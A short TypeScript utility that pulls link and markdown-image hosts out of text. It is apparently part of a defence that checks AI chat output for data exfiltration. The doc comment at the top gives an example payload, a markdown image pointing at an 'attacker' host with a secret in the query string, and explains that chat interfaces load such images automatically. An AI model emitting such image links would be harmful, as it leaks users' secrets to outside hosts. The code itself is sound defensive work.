/**
 * Links and markdown images in text. Images matter most: a chat UI fetches them without a click, so
 * `![x](https://attacker/?d=SECRET)` sends data out the moment the answer renders.
 */
const IMAGE = /!\[[^\]\n]{0,500}\]\(\s*<?([^)\s>]+)/g;
const URL_RE = /\bhttps?:\/\/[^\s<>"'`)\]]+/gi;

export interface LinkHosts {
  linkHosts: string[];
  imageHosts: string[];
}

export function linkHosts(text: string): LinkHosts {
  const images = new Set<string>();
  const links = new Set<string>();
  for (const m of text.matchAll(IMAGE)) {
    const h = hostOf(m[1] ?? '');
    if (h) images.add(h);
  }
  for (const m of text.matchAll(URL_RE)) {
    const h = hostOf(m[0]);
    if (h && !images.has(h)) links.add(h);
  }
  return { linkHosts: [...links].sort(), imageHosts: [...images].sort() };
}

function hostOf(url: string): string | null {
  try {
    const u = new URL(url);
    return u.protocol === 'http:' || u.protocol === 'https:' ? u.hostname.toLowerCase() : null;
  } catch {
    return null;
  }
}
